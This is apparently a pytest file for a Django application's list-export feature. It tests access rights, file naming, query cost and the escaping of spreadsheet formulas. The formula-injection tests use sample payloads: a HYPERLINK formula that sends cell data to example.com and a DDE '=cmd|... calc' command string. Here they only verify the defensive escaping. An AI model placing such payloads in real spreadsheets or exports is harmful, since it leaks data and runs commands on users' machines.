"""`?export=csv|xlsx|json` on every list: the filtered rows the user may see, all pages, streamed,
with spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import datetime
import io
import json
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.http.response import HttpResponseBase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from import_export import fields, resources

from collab.exports import FORMULA_TRIGGERS, FormulaEscapingResourceMixin, escape_formula
from partners.models import Partner
from programs.models import Agreement, Commitment
from tests.factories.agreements import AgreementFactory, ClauseFactory, SignatoryFactory
from tests.factories.commitments import CommitmentFactory
from tests.factories.meetings import ActionItemFactory, MeetingFactory
from tests.factories.partners import PartnerFactory
from tests.factories.program import ProgramPartnerFactory, SiteFactory

pytestmark = pytest.mark.django_db

FORMATS = ("csv", "xlsx", "json")
SHA = "0123456789abcdef" * 4

# list URL name → file name stem
LISTS = {
    "programs:agreement_list": "perjanjian",
    "programs:commitment_list": "komitmen",
    "partners:partner_list": "mitra",
    "programs:meeting_list": "rapat",
    "programs:actionitem_list": "rencana-kerja",
    "programs:site_list": "lokasi",
    "programs:program_list": "program",
}


# --- reading the files back --------------------------------------------------------------------


def content_of(response: HttpResponseBase) -> bytes:
    assert response.streaming, "exports are streamed"
    return b"".join(response.streaming_content)


def read_export(response: HttpResponseBase, export_format: str) -> list[dict[str, Any]]:
    """The exported rows as dicts keyed by header (CSV, XLSX) or key (JSON)."""
    data = content_of(response)
    if export_format == "csv":
        text = data.decode("utf-8")
        assert text.startswith("\ufeff"), "a byte-order mark for Excel"
        header, *rows = list(csv.reader(io.StringIO(text[1:], newline="")))
        return [dict(zip(header, row, strict=True)) for row in rows]
    if export_format == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        header, *rows = list(workbook.active.iter_rows(values_only=True))
        return [dict(zip(header, row, strict=True)) for row in rows]
    return json.loads(data.decode("utf-8"), parse_float=Decimal)


# Column name of a value in each format: CSV and XLSX carry the header label, JSON the key.
def col(export_format: str, label: str, key: str) -> str:
    return key if export_format == "json" else label


def export(client, url_name: str, export_format: str, **params: Any) -> HttpResponseBase:
    return client.get(reverse(url_name), {**params, "export": export_format})


# --- rows and columns ----------------------------------------------------------------------------


@pytest.fixture
def recorded_agreement(program):
    """An agreement with everything an export shows."""
    meeting = MeetingFactory(program=program, title="Rapat Penandatanganan")
    agreement = AgreementFactory(
        program=program,
        number="119/1234/B.III/2017",
        title="Rumusan Kesepakatan",
        kind=Agreement.Kind.RUMUSAN_KESEPAKATAN,
        status=Agreement.Status.SIGNED,
        signed_on=datetime.date(2017, 2, 9),
        signed_at="Jakarta",
        effective_from=datetime.date(2017, 2, 9),
        expires_on=datetime.date(2019, 12, 31),
        meeting=meeting,
        document="agreements/scan.pdf",
        document_sha256=SHA,
    )
    # Saved in reverse of their order: the export follows `order`, not insertion.
    SignatoryFactory(
        agreement=agreement,
        order=2,
        partner=None,
        signer_name="Ir. Budi",
        signer_position="",
    )
    SignatoryFactory(
        agreement=agreement,
        order=1,
        partner=PartnerFactory(name="Kementerian PUPR"),
        signer_name="Dr. Sri Hartoyo",
        signer_position="Direktur Jenderal",
    )
    for order in (1, 2, 3):
        ClauseFactory(agreement=agreement, order=order)
    CommitmentFactory(program=program, agreement=agreement)
    CommitmentFactory(program=program, agreement=agreement)
    return agreement


@pytest.mark.parametrize("export_format", FORMATS)
def test_an_agreement_export_holds_the_whole_record(client_for, recorded_agreement, export_format):
    response = export(client_for("staff"), "programs:agreement_list", export_format)
    assert response.status_code == 200
    (row,) = read_export(response, export_format)
    values = {key: row[col(export_format, label, key)] for label, key in AGREEMENT_HEADERS}
    url = f"http://testserver/agreements/{recorded_agreement.pk}/"
    if export_format == "csv":
        dates = ("2017-02-09", "2017-02-09", "2019-12-31")
        numbers, scan = ("3", "2"), "yes"
    elif export_format == "xlsx":
        dates = tuple(
            datetime.datetime(*day) for day in ((2017, 2, 9), (2017, 2, 9), (2019, 12, 31))
        )
        numbers, scan = (3, 2), True
    else:
        dates = ("2017-02-09", "2017-02-09", "2019-12-31")
        numbers, scan = (3, 2), True
    assert values == {
        "number": "119/1234/B.III/2017",
        "title": "Rumusan Kesepakatan",
        "kind": "Statement of agreement (rumusan)",
        "programme": "Program Ini",
        "status": "Signed",
        "signed_on": dates[0],
        "signed_at": "Jakarta",
        "effective_from": dates[1],
        "expires_on": dates[2],
        "signatories": "Kementerian PUPR — Dr. Sri Hartoyo (Direktur Jenderal); Ir. Budi",
        "clauses": numbers[0],
        "meeting": "Rapat Penandatanganan",
        "commitments": numbers[1],
        "has_scan": scan,
        "scan_sha256": SHA,
        "url": url,
    }


# (header label in the default language, JSON key). The labels are gettext'd: until the lead adds
# the Indonesian catalogue they read as the English source, which is what the tests compare.
AGREEMENT_HEADERS = (
    ("Number", "number"),
    ("Title", "title"),
    ("Kind", "kind"),
    ("Programme", "programme"),
    ("Status", "status"),
    ("Signed on", "signed_on"),
    ("Signed at", "signed_at"),
    ("Effective from", "effective_from"),
    ("Expires on", "expires_on"),
    ("Signatories", "signatories"),
    ("Number of clauses", "clauses"),
    ("Meeting", "meeting"),
    ("Number of linked commitments", "commitments"),
    ("Signed scan attached", "has_scan"),
    ("SHA-256 of the signed scan", "scan_sha256"),
    ("Record URL", "url"),
)


@pytest.fixture(autouse=True)
def _english_source_labels(settings):
    """Headers and choice labels compared as their source text, whatever the catalogue holds."""
    settings.LANGUAGE_CODE = "en"


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_exported_rows_equal_the_database_rows_for_a_filter(
    client_for, program, other_program, export_format
):
    # More rows than one page (50): the export holds them all, in the page's order.
    for day in range(55):
        AgreementFactory(
            program=program, kind=Agreement.Kind.PKS, signed_on=datetime.date(2020, 1, 1 + day % 28)
        )
    AgreementFactory.create_batch(3, program=program, kind=Agreement.Kind.MOU)
    AgreementFactory.create_batch(2, program=other_program, kind=Agreement.Kind.PKS)
    response = export(
        client_for("staff"),
        "programs:agreement_list",
        export_format,
        program=program.pk,
        kind=Agreement.Kind.PKS,
    )
    assert response.status_code == 200
    expected = list(
        Agreement.objects.filter(program=program, kind=Agreement.Kind.PKS)
        .order_by("-signed_on", "-id")
        .values_list("title", flat=True)
    )
    assert len(expected) == 55
    titles = [
        row[col(export_format, "Title", "title")] for row in read_export(response, export_format)
    ]
    assert titles == expected


@pytest.mark.parametrize("export_format", FORMATS)
def test_commitment_amounts_are_numbers_and_dates_are_dates(client_for, program, export_format):
    CommitmentFactory(
        program=program,
        title="Dana hibah",
        amount=Decimal("1500000.50"),
        starts_on=datetime.date(2024, 3, 1),
        due_on=datetime.date(2024, 12, 31),
        kind=Commitment.Kind.FUNDING,
    )
    response = export(client_for("viewer"), "programs:commitment_list", export_format)
    assert response.status_code == 200
    (row,) = read_export(response, export_format)
    amount = row[col(export_format, "Amount (Rp)", "amount")]
    due = row[col(export_format, "Due on", "due_on")]
    if export_format == "csv":
        assert (amount, due) == ("1500000.50", "2024-12-31")
    elif export_format == "xlsx":
        assert (amount, due) == (1500000.5, datetime.datetime(2024, 12, 31))
    else:
        assert (amount, due) == (Decimal("1500000.50"), "2024-12-31")
    assert row[col(export_format, "Kind", "kind")] == "Funding"


def test_an_xlsx_export_holds_real_dates_numbers_and_no_formula(client_for, program):
    CommitmentFactory(program=program, title="=1+1", amount=Decimal("250"))
    response = export(client_for("coordinator"), "programs:commitment_list", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(response))).active
    assert sheet.freeze_panes == "A2"
    title, amount = sheet["A2"], sheet["F2"]
    assert (title.value, title.data_type) == ("'=1+1", "s")
    assert (amount.value, amount.data_type) == (250, "n")


# --- file names and responses --------------------------------------------------------------------


@pytest.mark.parametrize("url_name", sorted(LISTS))
@pytest.mark.parametrize("export_format", FORMATS)
def test_every_list_exports_every_format_named_by_what_and_when(
    client_for, program, url_name, export_format
):
    agreement = AgreementFactory(program=program)
    meeting = MeetingFactory(program=program)
    CommitmentFactory(program=program, agreement=agreement, meeting=meeting)
    ActionItemFactory(program=program, meeting=meeting)
    SiteFactory(program=program)
    ProgramPartnerFactory(program=program)
    response = export(client_for("admin"), url_name, export_format)
    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    expected = f'attachment; filename="{LISTS[url_name]}-{today}.{export_format}"'
    assert response["Content-Disposition"] == expected
    assert "no-store" in response["Cache-Control"]
    assert read_export(response, export_format), "at least one row"


# --- rights --------------------------------------------------------------------------------------


def titles_in(response: HttpResponseBase) -> set[str]:
    return {row["Title"] for row in read_export(response, "csv")}


def test_a_coordinator_exports_none_of_another_programmes_agreements(
    client_for, program, other_program
):
    mine = AgreementFactory(program=program, title="Perjanjian kami")
    AgreementFactory(program=other_program, title="Perjanjian mereka")
    response = export(client_for("coordinator"), "programs:agreement_list", "csv")
    assert response.status_code == 200
    assert titles_in(response) == {mine.title}


def test_a_coordinator_cannot_filter_their_way_into_another_programme(
    client_for, program, other_program
):
    AgreementFactory(program=other_program)
    client = client_for("coordinator")
    response = export(client, "programs:agreement_list", "csv", program=other_program.pk)
    # The programme is not among the filter's choices: an explained error, not rows, not a 500.
    assert response.status_code == 400
    assert b"Programme" in response.content


def test_a_viewer_may_not_export_agreements(client_for, program):
    AgreementFactory(program=program)
    client = client_for("viewer")
    assert export(client, "programs:agreement_list", "csv").status_code == 403
    page = client.get(reverse("programs:agreement_list"))
    assert page.status_code == 200
    assert page.context["can_export"] is False
    assert b"export=csv" not in page.content


def test_a_viewer_may_export_the_commitments_of_their_programme(client_for, program, other_program):
    mine = CommitmentFactory(program=program, title="Komitmen kami")
    CommitmentFactory(program=other_program, title="Komitmen mereka")
    response = export(client_for("viewer"), "programs:commitment_list", "csv")
    assert response.status_code == 200
    assert titles_in(response) == {mine.title}


def test_staff_export_every_agreement(client_for, program, other_program):
    AgreementFactory(program=program, title="Satu")
    AgreementFactory(program=other_program, title="Dua")
    response = export(client_for("staff"), "programs:agreement_list", "csv")
    assert titles_in(response) == {"Satu", "Dua"}


@pytest.mark.parametrize("url_name", sorted(LISTS))
def test_anonymous_visitors_are_sent_to_sign_in(client_for, url_name):
    response = export(client_for("anonymous"), url_name, "csv")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_a_user_without_rights_gets_403(client_for):
    assert export(client_for("no_rights"), "programs:commitment_list", "csv").status_code == 403


@pytest.mark.parametrize("url_name", sorted(LISTS))
def test_an_unknown_format_is_a_bad_request(client_for, url_name):
    response = export(client_for("admin"), url_name, "pdf")
    assert response.status_code == 400
    assert "Unknown export format “pdf”" in response.content.decode()


def test_the_list_page_links_to_exports_that_keep_the_filters(client_for, program):
    AgreementFactory(program=program)
    page = client_for("staff").get(reverse("programs:agreement_list"), {"kind": "pks", "page": 2})
    assert page.context["can_export"] is True
    for export_format in FORMATS:
        assert f'href="?kind=pks&amp;export={export_format}"' in page.content.decode()


# --- formula injection ---------------------------------------------------------------------------


@pytest.mark.parametrize("export_format", FORMATS)
def test_text_that_a_spreadsheet_would_evaluate_is_escaped(client_for, program, export_format):
    title = '=HYPERLINK("http://example.com/?x="&A1,"klik")'
    agreement = AgreementFactory(program=program, title=title, signed_at="@SUM(A1)")
    SignatoryFactory(agreement=agreement, partner=None, signer_name="-2+3")
    response = export(client_for("coordinator"), "programs:agreement_list", export_format)
    (row,) = read_export(response, export_format)
    exported = (
        row[col(export_format, "Title", "title")],
        row[col(export_format, "Signed at", "signed_at")],
        row[col(export_format, "Signatories", "signatories")],
    )
    if export_format == "json":  # data for programs, not for spreadsheets: unchanged
        assert exported == (title, "@SUM(A1)", "-2+3")
    else:
        assert exported == ("'" + title, "'@SUM(A1)", "'-2+3")


DANGEROUS = st.sampled_from(sorted(FORMULA_TRIGGERS))


@given(st.text())
def test_escaped_text_never_starts_with_a_formula_character(text):
    escaped = escape_formula(text)
    assert escaped[:1] not in FORMULA_TRIGGERS
    if text[:1] in FORMULA_TRIGGERS:
        assert escaped == "'" + text


@given(st.text().filter(lambda text: text[:1] not in FORMULA_TRIGGERS))
def test_text_not_starting_with_a_formula_character_is_unchanged(text):
    assert escape_formula(text) == text


@given(st.one_of(st.integers(), st.decimals(allow_nan=False), st.dates(), st.none()))
def test_numbers_and_dates_are_not_text_and_not_escaped(value):
    assert escape_formula(value) is value


@given(st.text(), DANGEROUS)
def test_a_csv_round_trip_of_escaped_text_gives_a_quote_and_the_original(text, trigger):
    for original in (text, trigger + text):
        buffer = io.StringIO(newline="")
        csv.writer(buffer).writerow([escape_formula(original)])
        (read,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
        expected = "'" + original if original[:1] in FORMULA_TRIGGERS else original
        assert read == [expected]


class PartnerResource(FormulaEscapingResourceMixin, resources.ModelResource):
    """An admin export resource as a resource module would declare it."""

    units = fields.Field(column_name="units", dehydrate_method="dehydrate_units")

    class Meta:
        model = Partner
        fields = ("id", "name", "acronym", "units")

    def dehydrate_units(self, partner: Partner) -> int:
        return -1  # a number from a dehydrate method stays a number


def test_the_admin_export_resources_escape_text_and_keep_numbers():
    PartnerFactory(name="=cmd|' /C calc'!A0", acronym="+X")
    dataset = PartnerResource().export(Partner.objects.all())
    (row,) = dataset.dict
    assert (row["name"], row["acronym"], row["units"]) == ("'=cmd|' /C calc'!A0", "'+X", -1)


# --- cost ----------------------------------------------------------------------------------------


def test_an_agreement_export_runs_the_same_queries_for_2_and_20_agreements(client_for, program):
    client = client_for("staff")

    def queries_for(count: int) -> int:
        Agreement.objects.all().delete()
        for _ in range(count):
            agreement = AgreementFactory(program=program, meeting=MeetingFactory(program=program))
            SignatoryFactory(agreement=agreement)
            SignatoryFactory(agreement=agreement)
            ClauseFactory(agreement=agreement)
            CommitmentFactory(program=program, agreement=agreement)
        with CaptureQueriesContext(connection) as queries:
            response = export(client, "programs:agreement_list", "csv")
            assert len(read_export(response, "csv")) == count
        return len(queries)

    # session, user, model permissions, the right to any programme, the export right, the rows
    # (one query: signatories, counts and scan as subqueries).
    assert queries_for(2) == queries_for(20)
